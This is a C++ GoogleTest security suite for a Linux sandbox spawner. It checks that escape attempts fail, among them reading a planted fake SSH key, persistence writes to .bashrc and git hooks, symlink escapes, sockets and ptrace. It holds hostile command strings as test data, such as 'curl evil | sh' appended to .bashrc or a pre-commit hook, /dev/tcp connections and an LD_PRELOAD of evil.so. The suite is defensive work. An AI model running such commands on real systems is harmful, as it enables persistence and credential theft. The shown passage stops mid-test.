// The escape battery: each case runs one attack through the spawner with the default profile (a
// workspace, the system paths, a private TMPDIR) while this process plays the kernel: a throwaway
// $HOME with a fake ~/.ssh/id_rsa and a fake API key in its environment. Every case asserts that
// the attack failed in the expected way and that nothing the sandbox started is still alive. Every
// case runs twice: with the plain workspace, and with the workspace in overlay mode (fresh layers
// per case, and the real tree checked unchanged afterwards); OverlayBattery adds the cases only the
// overlay has. tests/security/README.md lists the cases.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <cstring>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <optional>
#include <sstream>
#include <thread>

#include "battery_support.hpp"
#include "overlay_dirs.hpp"
#include "kernex/sandbox/policy.hpp"
#include "kernex/sandbox/spawn.hpp"

namespace fs = std::filesystem;
using namespace kernex::sandbox;
using namespace kernex::battery;
using namespace std::chrono_literals;

namespace {

constexpr const char* kKeySentinel = "PRIVATE-KEY-SENTINEL";
constexpr const char* kApiKey = "sk-kernex-FAKE-API-KEY-0123456789";
volatile long g_parent_secret = 0x5EC12E7;  // target of process_vm_readv

// A write outside the grants: refused by Landlock (EACCES) or, first, by the read-only mount
// (EROFS).
bool write_refused(const std::string& s) { return s == "EACCES" || s == "EROFS"; }

// What the loopback server of the network cases answers: a tiny HTTP response, for curl.
constexpr const char* kHttpOk =
    "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok";

// The parameter: whether the workspace is seen through an overlay.
class SecurityBattery : public ::testing::TestWithParam<bool> {
 protected:
  static void SetUpTestSuite() {
    // Orphans of the sandbox come back here, so a surviving descendant would be visible.
    ::prctl(PR_SET_CHILD_SUBREAPER, 1);
    ASSERT_TRUE(make_scratch_root("kernex-battery", root_));
    home_ = root_ / "home";
    ws_ = root_ / "ws";
    outside_ = root_ / "outside";
    fs::create_directories(home_ / ".ssh");
    fs::create_directories(home_ / ".kernex" / "projects" / "proj");
    fs::create_directories(ws_ / ".git" / "hooks");
    fs::create_directories(outside_);
    fs::create_directories(plain_ws_ = root_ / "plain-ws");
    std::ofstream(home_ / ".ssh" / "id_rsa") << "-----BEGIN OPENSSH PRIVATE KEY-----\n"
                                             << kKeySentinel << "\n";
    std::ofstream(home_ / ".bashrc") << "# original\n";
    std::ofstream(home_ / "readable.txt") << "public";
    std::ofstream(ws_ / ".git" / "hooks" / "pre-commit.sample") << "#!/bin/sh\n";
    std::ofstream(ws_ / ".git" / "config") << "[core]\n";
    std::ofstream(ws_ / ".bashrc") << "# workspace rc\n";
    std::ofstream(ws_ / "inside.txt") << "inside";
    std::ofstream(outside_ / "secret.txt") << "OUTSIDE-SECRET";
    home_override_.set(home_);
    ::setenv("KERNEX_FAKE_API_KEY", kApiKey, 1);
  }
  static void TearDownTestSuite() {
    home_override_.restore();
    ::unsetenv("KERNEX_FAKE_API_KEY");
    std::error_code ec;
    fs::remove_all(root_, ec);
  }

  // Overlay mode: fresh layers for each case (mkdir 0700, as a host makes them), and the real tree
  // as it was, to compare afterwards.
  void SetUp() override {
    if (!GetParam()) return;
    layers_ = root_ / ("layers-" + std::to_string(++cases_));
    for (const auto& dir : {*layers_, *layers_ / "upper", *layers_ / "work"}) {
      ASSERT_EQ(::mkdir(dir.c_str(), 0700), 0) << dir;
    }
    auto probe = defaults().Build();
    if (!probe) GTEST_SKIP() << "overlay not available here: " << probe.error().describe();
    before_ = kernex::testing::tree_snapshot(ws_);
  }
  void TearDown() override {
    if (!layers_) return;
    // Not a byte of the real tree changed but what this process wrote there itself.
    auto after = kernex::testing::tree_snapshot(ws_);
    for (const char* own : {"to-move.txt", "dropped", "owned.txt", "ls"}) {
      before_.erase(own);
      after.erase(own);
    }
    EXPECT_EQ(after, before_);
    std::error_code ec;
    fs::permissions(*layers_ / "work" / "work", fs::perms::owner_all, ec);
    fs::remove_all(*layers_, ec);
    layers_.reset();
  }

  // The default profile of the battery: workspace + system paths + private TMPDIR, and the attack
  // programs' directory executable; in overlay mode, the workspace through this case's layers.
  static PolicyBuilder defaults() {
    auto b = PolicyBuilder().workspace(ws_).executable(KERNEX_ATTACK_DIR).timeout(10s);
    if (layers_) b.workspace_overlay(WorkspaceOverlay::in(*layers_));
    return b;
  }
  static fs::path upper() { return *layers_ / "upper"; }
  // Where the sandbox's view of `ws/<rel>` is kept: the upper layer's entry in overlay mode when
  // there is one (a whiteout included), else the real tree's.
  static fs::path seen(const std::string& rel) {
    std::error_code ec;
    if (layers_ && fs::exists(fs::symlink_status(upper() / rel, ec))) return upper() / rel;
    return ws_ / rel;
  }
  // Whether the sandbox's view of the workspace holds `rel` (a whiteout hides the real one).
  static bool visible(const std::string& rel) {
    struct stat st {};
    if (::lstat(seen(rel).c_str(), &st) != 0) return false;
    return !(S_ISCHR(st.st_mode) && st.st_rdev == 0);
  }
  static Policy build(const PolicyBuilder& b) { return build_policy(b); }

  SpawnResult run(const Policy& policy, std::vector<std::string> argv,
                  std::optional<std::chrono::milliseconds> timeout = {}) {
    return run_leaving_nothing(policy, std::move(argv), timeout);
  }
  SpawnResult attack(std::vector<std::string> args, const PolicyBuilder& b = defaults()) {
    args.insert(args.begin(), kAttack);
    return run(build(b), std::move(args));
  }
  SpawnResult shell(const std::string& line, const PolicyBuilder& b = defaults()) {
    return run(build(b), {"/bin/sh", "-c", line});
  }

  static bool scoping() { return landlock_abi() >= 6; }

  // Without protective mounts (and so without writable grants): children take the other spawn path,
  // inheriting the seccomp filter from a clone thread that carries it and made group leaders by the
  // spawning thread. Writable grants get a mount namespace (noexec), so this policy writes nowhere.
  static PolicyBuilder inherited_filter() {
    SandboxProfile p;
    p.private_tmp = false;
    return PolicyBuilder(p)
        .read_only(plain_ws_)
        .working_dir(plain_ws_)
        .executable(KERNEX_ATTACK_DIR)
        .timeout(10s);
  }

  static inline fs::path root_, home_, ws_, outside_, plain_ws_;
  static inline HomeOverride home_override_;
  static inline std::optional<fs::path> layers_;  // overlay mode: this case's layers
  static inline int cases_ = 0;
  std::map<std::string, std::string> before_;
};

// ---- secrets and files
// -----------------------------------------------------------------------------

TEST_P(SecurityBattery, ReadSshKeyWithCat) {
  auto r = shell("cat \"$HOME/.ssh/id_rsa\"");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos);
  EXPECT_NE(r.stderr_data.find("Permission denied"), std::string::npos) << r.stderr_data;
}

TEST_P(SecurityBattery, ReadSshKeyDirectly) {
  auto r = attack({"read", (home_ / ".ssh" / "id_rsa").string()});
  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
}

TEST_P(SecurityBattery, ReadParentEnviron) {
  auto r = attack({"read", "/proc/" + std::to_string(::getpid()) + "/environ"});
  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
  EXPECT_EQ(r.stdout_data.find(kApiKey), std::string::npos);
  auto sh = shell("cat /proc/$PPID/environ; cat /proc/self/environ");
  EXPECT_EQ(sh.stdout_data.find(kApiKey), std::string::npos);
  EXPECT_NE(sh.exit_code, 0);
}

TEST_P(SecurityBattery, SecretEnvNotPassedThrough) {
  auto r = shell("env; echo \"key=$KERNEX_FAKE_API_KEY\"");
  EXPECT_TRUE(r.success()) << r.stderr_data;
  EXPECT_EQ(r.stdout_data.find(kApiKey), std::string::npos);
  EXPECT_NE(r.stdout_data.find("key=\n"), std::string::npos);
}

TEST_P(SecurityBattery, WriteBashrc) {
  auto r = shell("echo 'curl evil | sh' >> \"$HOME/.bashrc\"");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_EQ(slurp(home_ / ".bashrc"), "# original\n");
}

TEST_P(SecurityBattery, WriteOutsideWorkspace) {
  auto r = attack({"write", (outside_ / "planted").string()});
  EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << r.stdout_data;
  EXPECT_FALSE(fs::exists(outside_ / "planted"));
}

TEST_P(SecurityBattery, WriteSharedTmp) {
  const auto target = "/tmp/kernex-battery-planted-" + std::to_string(::getpid());
  auto r = attack({"write", target});
  EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << r.stdout_data;
  EXPECT_FALSE(fs::exists(target));
}

TEST_P(SecurityBattery, ReadOtherPartsOfTheSystem) {
  for (const char* path :
       {"/etc/shadow", "/root", "/home", "/var/log", "/tmp", "/proc/self/status", "/sys/kernel"}) {
    auto r = attack({"read", path});
    EXPECT_TRUE(first_line(r.stdout_data) == "EACCES" || first_line(r.stdout_data) == "ENOENT")
        << path << ": " << r.stdout_data;
  }
}

TEST_P(SecurityBattery, ListSharedTmp) {
  auto r = attack({"list", "/tmp"});
  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
}

TEST_P(SecurityBattery, WriteGitHooks) {
  auto plant =
      shell("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
  EXPECT_NE(plant.exit_code, 0);
  EXPECT_NE(plant.stderr_data.find("Read-only file system"), std::string::npos)
      << plant.stderr_data;
  EXPECT_FALSE(visible(".git/hooks/pre-commit"));
  auto overwrite = attack({"write", (ws_ / ".git" / "hooks" / "pre-commit.sample").string()});
  EXPECT_EQ(first_line(overwrite.stdout_data), "EROFS");
  // The rest of .git is read-only too unless a profile opts in to git writes (battery2_files_test).
  auto object = attack({"write", (ws_ / ".git" / "objects-probe").string()});
  EXPECT_EQ(first_line(object.stdout_data), "EROFS");
  EXPECT_FALSE(visible(".git/objects-probe"));
}

TEST_P(SecurityBattery, WriteGitConfig) {
  auto r = shell("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_EQ(slurp(seen(".git/config")), "[core]\n");
}

TEST_P(SecurityBattery, SwapGitDirectory) {
  auto r = shell("mv .git .git-old || rm -rf .git/hooks");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_TRUE(visible(".git/hooks/pre-commit.sample"));
  EXPECT_FALSE(visible(".git-old"));
}

TEST_P(SecurityBattery, WriteRcFileInWorkspace) {
  auto append = attack({"write", (ws_ / ".bashrc").string()});
  EXPECT_EQ(first_line(append.stdout_data), "EROFS");
  auto replace = shell("rm -f .bashrc || mv .bashrc .bashrc.old");
  EXPECT_NE(replace.exit_code, 0);
  EXPECT_EQ(slurp(seen(".bashrc")), "# workspace rc\n");
}

TEST_P(SecurityBattery, ProtectiveMountsStayPrivate) {
  auto r = shell("true");
  EXPECT_TRUE(r.success());
  EXPECT_EQ(slurp("/proc/self/mountinfo").find(ws_.string()), std::string::npos);
  if (layers_) {
    EXPECT_EQ(slurp("/proc/self/mountinfo").find(layers_->string()), std::string::npos);
  }
}

TEST_P(SecurityBattery, SymlinkToSecretEscape) {
  auto r = shell("ln -sf \"$HOME/.ssh/id_rsa\" key-link && cat key-link");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_EQ(r.stdout_data.find(kKeySentinel), std::string::npos);
  fs::remove(ws_ / "key-link");
}

TEST_P(SecurityBattery, SymlinkDirectoryWriteEscape) {
  auto r = shell("ln -sfn '" + outside_.string() + "' out-link && echo x > out-link/planted");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_FALSE(fs::exists(outside_ / "planted"));
  fs::remove(ws_ / "out-link");
}

TEST_P(SecurityBattery, HardlinkSecretIntoWorkspace) {
  auto r = attack({"link", (home_ / ".ssh" / "id_rsa").string(), (ws_ / "hard-key").string()});
  EXPECT_NE(first_line(r.stdout_data), "OK");
  EXPECT_FALSE(visible("hard-key"));
}

TEST_P(SecurityBattery, RenameOutOfWorkspace) {
  std::ofstream(ws_ / "to-move.txt") << "x";
  auto r = attack({"rename", (ws_ / "to-move.txt").string(), (outside_ / "moved.txt").string()});
  EXPECT_NE(first_line(r.stdout_data), "OK");
  EXPECT_FALSE(fs::exists(outside_ / "moved.txt"));
  EXPECT_TRUE(visible("to-move.txt"));
}

TEST_P(SecurityBattery, RenameSecretIntoWorkspace) {
  auto r = attack({"rename", (outside_ / "secret.txt").string(), (ws_ / "stolen.txt").string()});
  EXPECT_NE(first_line(r.stdout_data), "OK");
  EXPECT_TRUE(fs::exists(outside_ / "secret.txt"));
  EXPECT_FALSE(visible("stolen.txt"));
}

TEST_P(SecurityBattery, WriteSystemBinaries) {
  auto r = attack({"write", "/usr/bin/kernex-planted"});
  EXPECT_TRUE(write_refused(first_line(r.stdout_data))) << r.stdout_data;
  auto etc = attack({"write", "/etc/passwd"});
  EXPECT_TRUE(write_refused(first_line(etc.stdout_data))) << etc.stdout_data;
}

TEST_P(SecurityBattery, ExecuteFromWorkspace) {
  fs::copy_file(kAttack, ws_ / "dropped", fs::copy_options::overwrite_existing);
  auto r = attack({"exec", (ws_ / "dropped").string()});
  EXPECT_EQ(first_line(r.stdout_data), "EACCES");
}

TEST_P(SecurityBattery, RawDeviceAccess) {
  for (const char* dev : {"/dev/mem", "/dev/kmsg", "/dev/tty"}) {
    auto r = attack({"write", dev});
    EXPECT_NE(first_line(r.stdout_data), "OK") << dev;
  }
}

// ---- network -----------------------------------------------------------------------------------

TEST_P(SecurityBattery, TcpToLoopback) {
  LoopbackServer server(kHttpOk);
  auto r = attack({"tcp", std::to_string(server.port())});
  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
  EXPECT_EQ(server.accepted(), 0);
}

TEST_P(SecurityBattery, UdpSend) {
  auto r = attack({"udp", "53"});
  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
}

TEST_P(SecurityBattery, DnsLookup) {
  auto r = attack({"dns", "example.com"});
  EXPECT_EQ(r.stdout_data.rfind("EAI", 0), 0u) << r.stdout_data;
}

TEST_P(SecurityBattery, BashDevTcp) {
  LoopbackServer server(kHttpOk);
  auto r = run(build(defaults()), {"/bin/bash", "-c",
                                   "exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(server.port()) +
                                       " && echo connected"});
  EXPECT_NE(r.exit_code, 0);
  EXPECT_EQ(r.stdout_data.find("connected"), std::string::npos);
  EXPECT_EQ(server.accepted(), 0);
}

TEST_P(SecurityBattery, UnixSocketByPath) {
  const fs::path path = outside_ / "daemon.sock";
  int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::strncpy(addr.sun_path, path.c_str(), sizeof(addr.sun_path) - 1);
  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ::listen(listener, 1);
  auto r = attack({"unix", path.string()});
  ::close(listener);
  fs::remove(path);
  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
}

TEST_P(SecurityBattery, AbstractUnixSocket) {
  const std::string name = "kernex-battery-" + std::to_string(::getpid());
  int listener = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path + 1, name.data(), name.size());
  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr),
                   static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size())),
            0);
  ::listen(listener, 1);
  auto r = attack({"abstract", name});
  EXPECT_EQ(first_line(r.stdout_data), "socket:EPERM");
  // Even with AF_UNIX opted in, Landlock's scoping keeps abstract sockets outside the sandbox
  // unreachable.
  if (scoping()) {
    auto opted = attack({"abstract", name}, defaults().allow_unix_sockets());
    EXPECT_EQ(first_line(opted.stdout_data), "connect:EPERM");
  }
  ::close(listener);
}

TEST_P(SecurityBattery, NetlinkPacketVsockRawSockets) {
  for (auto [family, type] : {std::pair{"netlink", "raw"},
                              {"packet", "raw"},
                              {"vsock", "stream"},
                              {"inet", "raw"},
                              {"inet6", "dgram"},
                              {"unix", "stream"}}) {
    auto r = attack({"socket", family, type});
    EXPECT_EQ(first_line(r.stdout_data), "EPERM") << family << "/" << type;
  }
  // socketpair stays available: it reaches nothing outside the sandbox.
  auto pair = attack({"socketpair"});
  EXPECT_EQ(first_line(pair.stdout_data), "OK");
}

TEST_P(SecurityBattery, OptedInTcpIsLimitedToItsPorts) {
  if (landlock_abi() < 4)
    GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
  LoopbackServer allowed(kHttpOk);
  LoopbackServer other(kHttpOk);
  auto b = defaults().allow_tcp_connect(static_cast<std::uint16_t>(allowed.port()));
  auto ok = attack({"tcp", std::to_string(allowed.port())}, b);
  EXPECT_EQ(first_line(ok.stdout_data).rfind("OK HTTP/1.1 200 OK", 0), 0u) << ok.stdout_data;
  auto denied = attack({"tcp", std::to_string(other.port())}, b);
  EXPECT_EQ(first_line(denied.stdout_data), "connect:EACCES");
  EXPECT_EQ(other.accepted(), 0);
  // Still no UDP, raw, netlink with TCP opted in.
  EXPECT_EQ(first_line(attack({"udp", "53"}, b).stdout_data), "socket:EPERM");
  EXPECT_EQ(first_line(attack({"socket", "inet", "raw"}, b).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"socket", "netlink", "raw"}, b).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"socket", "inet", "stream", "132"}, b).stdout_data),
            "EPERM");  // SCTP
}

// kernex's network_egress test, ported: curl to a loopback responder.
TEST_P(SecurityBattery, NetworkEgressPort) {
  if (landlock_abi() < 4)
    GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no TCP rules (needs 4)";
  if (!fs::exists("/usr/bin/curl")) GTEST_SKIP() << "curl is not installed";
  LoopbackServer server(kHttpOk);
  const std::string url = "http://127.0.0.1:" + std::to_string(server.port()) + "/";
  auto allowed = run(build(defaults().allow_tcp_connect(static_cast<std::uint16_t>(server.port()))),
                     {"curl", "--silent", "--show-error", "--max-time", "10", url});
  EXPECT_TRUE(allowed.success()) << allowed.stderr_data;
  EXPECT_NE(allowed.stdout_data.find("ok"), std::string::npos);
  auto denied =
      run(build(defaults()), {"curl", "--silent", "--show-error", "--max-time", "10", url});
  EXPECT_FALSE(denied.success());
  EXPECT_EQ(denied.stdout_data.find("ok"), std::string::npos);
}

// ---- kernel attack surface and other processes
// ----------------------------------------------------

TEST_P(SecurityBattery, IoUringSetup) {
  EXPECT_EQ(first_line(attack({"io_uring"}).stdout_data), "EPERM");
}

TEST_P(SecurityBattery, PtraceParent) {
  EXPECT_EQ(first_line(attack({"ptrace", std::to_string(::getpid())}).stdout_data), "EPERM");
}

TEST_P(SecurityBattery, ProcessVmReadvParent) {
  std::ostringstream addr;
  addr << const_cast<const long*>(&g_parent_secret);
  EXPECT_EQ(first_line(attack({"vm_readv", std::to_string(::getpid()), addr.str()}).stdout_data),
            "EPERM");
}

// The kernel's threads that clone the children, by tid (a signal to any thread reaches the
// process).
std::vector<std::string> clone_thread_tids() {
  std::vector<std::string> tids;
  for (const auto& task : fs::directory_iterator("/proc/self/task")) {
    std::ifstream comm_file(task.path() / "comm");
    std::string comm;
    std::getline(comm_file, comm);
    if (comm == "kernex-clone") tids.push_back(task.path().filename().string());
  }
  return tids;
}

TEST_P(SecurityBattery, KillParent) {
  if (!scoping())
    GTEST_SKIP() << "Landlock ABI " << landlock_abi() << " has no signal scoping (needs 6)";
  // EPERM from Landlock's signal scope; ESRCH when the command is in a PID namespace of its own,
  // where the kernel's pids name nothing (or another process of that namespace).
  auto refused = [](const SpawnResult& r) {
    const auto line = first_line(r.stdout_data);
    return line == "EPERM" || line == "ESRCH";
  };
  EXPECT_TRUE(refused(attack({"kill", std::to_string(::getpid())}))) << "kernel";
  const bool own_pid_ns = build(defaults()).status().pid_namespace;
  if (!own_pid_ns) {  // else pid 1 is the command itself
    EXPECT_EQ(first_line(attack({"kill", "1"}).stdout_data), "EPERM");
  }
  // Also the threads the children are cloned from, on both spawn paths: none may share a Landlock
  // domain with a command (signals within one domain are allowed).
  EXPECT_TRUE(refused(attack({"kill", std::to_string(::getpid())}, inherited_filter())))
      << "kernel";
  const auto tids = clone_thread_tids();
  ASSERT_GE(tids.size(), 2u);  // the plain thread and one carrying the filter
  for (const auto& tid : tids) {
    EXPECT_TRUE(refused(attack({"kill", tid}))) << tid;
    EXPECT_TRUE(refused(attack({"kill", tid}, inherited_filter()))) << tid;
  }
}

TEST_P(SecurityBattery, PrlimitOfTheKernel) {
  const std::string self = std::to_string(::getpid());
  EXPECT_EQ(first_line(attack({"prlimit", self}).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"prlimit", self}, inherited_filter()).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"prlimit", "0"}).stdout_data),
            "OK");  // its own limits stay settable
}

// The attacks that rely on the seccomp filter and the process group, again on the spawn path where
// the filter is inherited from a clone thread rather than loaded by the child.
TEST_P(SecurityBattery, FilterHoldsWhenInherited) {
  const std::string parent = std::to_string(::getpid());
  for (const std::vector<std::string>& args :
       std::vector<std::vector<std::string>>{{"socket", "unix", "stream", "0"},
                                             {"socket", "netlink", "raw", "0"},
                                             {"io_uring"},
                                             {"ptrace", parent},
                                             {"mount", "/tmp"},
                                             {"unshare"},
                                             {"setns"},
                                             {"keyctl"},
                                             {"bpf"},
                                             {"perf"},
                                             {"tiocsti"}}) {
    EXPECT_EQ(first_line(attack(args, inherited_filter()).stdout_data), "EPERM") << args.front();
  }
  auto daemon = run(build(inherited_filter()), {kAttack, "daemon"});
  EXPECT_NE(daemon.stdout_data.find("setsid=EPERM"), std::string::npos) << daemon.stdout_data;
  auto bg = run(build(inherited_filter()),
                {"/bin/sh", "-c", "(trap '' HUP TERM; sleep 1000) & echo $!; sleep 1000"}, 300ms);
  EXPECT_TRUE(bg.timed_out);
}

// A kernel started from a terminal: the command must have no controlling terminal, even where
// /dev/tty is granted (the path that can't setsid drops it with TIOCNOTTY instead). Run in a forked
// helper that leads a session whose controlling terminal is a fresh pty.
TEST_P(SecurityBattery, TerminalOfTheKernelIsOutOfReach) {
  int report[2];
  ASSERT_EQ(::pipe(report), 0);
  const pid_t helper = ::fork();
  if (helper == 0) {
    ::close(report[0]);
    std::string out;
    const int master = ::posix_openpt(O_RDWR | O_NOCTTY);
    if (::setsid() < 0 || master < 0 || ::grantpt(master) != 0 || ::unlockpt(master) != 0) {
      out = "setup failed";
    } else {
      const std::string slave = ::ptsname(master);
      const int tty =
          ::open(slave.c_str(), O_RDWR);  // a session leader's first tty: its controlling one
      for (const auto& b : {defaults(), inherited_filter()}) {
        // /dev/tty opens the caller's controlling terminal, ENXIO when it has none.
        auto policy = PolicyBuilder(b).read_write("/dev/tty").Build();
        if (!policy || tty < 0) {
          out += "no policy: " + (policy ? std::string("no tty") : policy.error().describe()) + ";";
          continue;
        }
        Command cmd;
        cmd.argv = {kAttack, "write", "/dev/tty"};
        auto r = spawn(*policy, cmd);
        out += (r ? first_line(r->stdout_data) : "spawn failed: " + r.error().describe()) + ";";
      }
    }
    (void)!::write(report[1], out.data(), out.size());
    ::_exit(0);
  }
  ::close(report[1]);
  std::string got;
  char buf[512];
  pollfd pfd{report[0], POLLIN, 0};
  while (::poll(&pfd, 1, 30'000) > 0) {
    const ssize_t n = ::read(report[0], buf, sizeof buf);
    if (n <= 0) break;
    got.append(buf, static_cast<std::size_t>(n));
  }
  ::close(report[0]);
  ::kill(helper, SIGKILL);
  ::waitpid(helper, nullptr, 0);
  EXPECT_EQ(got, "ENXIO;ENXIO;");
}

TEST_P(SecurityBattery, MountTmpfs) {
  EXPECT_EQ(first_line(attack({"mount", ws_.string()}).stdout_data), "EPERM");
}

TEST_P(SecurityBattery, UnshareNamespaces) {
  EXPECT_EQ(first_line(attack({"unshare"}).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"unshare_net"}).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"clone_newuser"}).stdout_data), "EPERM");
}

TEST_P(SecurityBattery, Setns) { EXPECT_EQ(first_line(attack({"setns"}).stdout_data), "EPERM"); }

TEST_P(SecurityBattery, Keyctl) {
  EXPECT_EQ(first_line(attack({"keyctl"}).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"add_key"}).stdout_data), "EPERM");
}

TEST_P(SecurityBattery, Bpf) { EXPECT_EQ(first_line(attack({"bpf"}).stdout_data), "EPERM"); }

TEST_P(SecurityBattery, PerfEventOpen) {
  EXPECT_EQ(first_line(attack({"perf"}).stdout_data), "EPERM");
}

TEST_P(SecurityBattery, UserfaultfdAndModules) {
  EXPECT_EQ(first_line(attack({"userfaultfd"}).stdout_data), "EPERM");
  EXPECT_EQ(first_line(attack({"finit_module"}).stdout_data), "EPERM");
}

TEST_P(SecurityBattery, TerminalInjection) {
  EXPECT_EQ(first_line(attack({"tiocsti"}).stdout_data), "EPERM");
}

// Whether int 0x80 works at all outside the sandbox: kernels built or booted without IA-32
// emulation (ia32_emulation=0, some VM hosts) answer it with SIGSEGV before seccomp ever sees it.
bool host_has_ia32_entry() {
  const pid_t pid = ::fork();
  if (pid == 0) {
    const int null = ::open("/dev/null", O_WRONLY);
    ::dup2(null, STDOUT_FILENO);
    ::execl(kAttack.c_str(), kAttack.c_str(), "int80", static_cast<char*>(nullptr));
    ::_exit(127);
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  return WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

TEST_P(SecurityBattery, ThirtyTwoBitSyscallEntry) {
  auto r = attack({"int80"});
  if (first_line(r.stdout_data) == "UNSUPPORTED") GTEST_SKIP() << "not an x86-64 kernel";
  if (!host_has_ia32_entry()) {
    GTEST_SKIP()
        << "this kernel has no 32-bit syscall entry (IA-32 emulation off): int 0x80 faults "
           "even unsandboxed, so there is nothing for the filter to block";
  }
  EXPECT_EQ(r.term_signal, SIGSYS) << r.stdout_data;
  EXPECT_EQ(r.stdout_data, "");
}

TEST_P(SecurityBattery, CapabilitiesAreGone) {
  auto r = attack({"caps"});
  EXPECT_EQ(first_line(r.stdout_data),
            "eff=000000000 prm=000000000 inh=000000000 bounding=0 ambient=0 nnp=1")
      << r.stdout_data;
  const std::string other_uid = ::getuid() == 65534 ? "65533" : "65534";
  // EINVAL instead of EPERM when the workspace needed a user namespace (unprivileged kernel
  // process): the other uid is not even mapped there.
  auto denied = [](const std::string& out) {
    return first_line(out) == "EPERM" || first_line(out) == "EINVAL";
  };
  auto setuid = attack({"setuid", other_uid});
  EXPECT_TRUE(denied(setuid.stdout_data)) << setuid.stdout_data;
  std::ofstream(ws_ / "owned.txt") << "x";
  auto chown = attack({"chown", (ws_ / "owned.txt").string(), other_uid});
  EXPECT_TRUE(denied(chown.stdout_data)) << chown.stdout_data;
}

TEST_P(SecurityBattery, SetuidBinary) {
  const fs::path suid = root_ / "suid-bin";
  fs::create_directories(suid);
  fs::copy_file(kAttack, suid / "attack", fs::copy_options::overwrite_existing);
  const uid_t owner = ::getuid() == 0 ? 65534 : ::getuid();
  if (::getuid() == 0) {
    ASSERT_EQ(::chown((suid / "attack").c_str(), owner, owner), 0);
  }
  ASSERT_EQ(::chmod((suid / "attack").c_str(), 04755), 0);
  auto r = run(build(defaults().executable(suid)), {(suid / "attack").string(), "euid"});
  EXPECT_EQ(first_line(r.stdout_data),
            "euid=" + std::to_string(::geteuid()) + " uid=" + std::to_string(::getuid()));
}

// ---- commands and environment
// ----------------------------------------------------------------------

TEST_P(SecurityBattery, CommandNotOnAllowList) {
  auto policy = build(defaults().allow_command("echo"));
  for (auto argv : {std::vector<std::string>{"cat", "/etc/hostname"},
                    {"/bin/sh", "-c", "cat /etc/hostname"},
                    {"/usr/bin/env", "cat"}}) {
    Command cmd;
    cmd.argv = argv;
    auto r = spawn(policy, cmd);
    ASSERT_FALSE(r.has_value()) << argv[0];
    EXPECT_NE(r.error().message.find("allowed_commands"), std::string::npos);
  }
}

TEST_P(SecurityBattery, CommandViaAllowedShell) {
  auto r =
      run(build(defaults().allow_command("sh")), {"sh", "-c", "cat /etc/hostname; echo after"});
  EXPECT_EQ(r.stdout_data, "after\n");
  EXPECT_NE(r.stderr_data.find("Permission denied"), std::string::npos) << r.stderr_data;
}

TEST_P(SecurityBattery, CommandViaAllowedInterpreter) {
  if (!fs::exists("/usr/bin/perl")) GTEST_SKIP() << "perl is not installed";
  auto r = run(build(defaults().allow_command("perl")),
               {"perl", "-e", "exec('/bin/cat', '/etc/hostname') or print \"blocked: $!\\n\""});
  EXPECT_EQ(r.stdout_data, "blocked: Permission denied\n");
  auto sys = run(build(defaults().allow_command("perl")),
                 {"perl", "-e", "print system('id') == 0 ? 'ran' : 'blocked'"});
  EXPECT_EQ(sys.stdout_data, "blocked");
}

TEST_P(SecurityBattery, PathOverride) {
  Command cmd;
  cmd.argv = {"/bin/true"};
  cmd.env = {{"PATH", ws_.string()}};
  auto refused = spawn(build(defaults()), cmd);
  ASSERT_FALSE(refused.has_value());
  EXPECT_NE(refused.error().message.find("PATH"), std::string::npos);
  // A PATH change inside the sandbox can't make a workspace file run either.
  fs::copy_file(kAttack, ws_ / "ls", fs::copy_options::overwrite_existing);
  auto only_ws = shell("PATH=\"$PWD\" ls");
  EXPECT_NE(only_ws.exit_code, 0);
  EXPECT_NE(only_ws.stderr_data.find("Permission denied"), std::string::npos)
      << only_ws.stderr_data;
  // With the system dirs after it, the shell skips the planted file and finds the real ls.
  auto fallback = shell("PATH=\"$PWD:$PATH\" ls -d .");
  EXPECT_EQ(fallback.stdout_data, ".\n");
  EXPECT_EQ(fallback.stderr_data.find("usage: attack"), std::string::npos);
}

TEST_P(SecurityBattery, LdPreloadOverride) {
  Command cmd;
  cmd.argv = {"/bin/true"};
  cmd.env = {{"LD_PRELOAD", (ws_ / "evil.so").string()}};
